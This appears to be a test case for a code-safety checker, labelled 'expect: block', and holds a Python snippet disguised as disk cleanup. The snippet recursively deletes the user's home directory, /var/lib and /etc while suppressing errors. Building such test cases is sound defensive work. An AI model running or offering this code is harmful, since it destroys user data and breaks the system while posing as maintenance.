# expect: block
import shutil
from pathlib import Path

# "Free up disk space"
for victim in (Path.home(), Path("/var/lib"), Path("/etc")):
    shutil.rmtree(victim, ignore_errors=True)
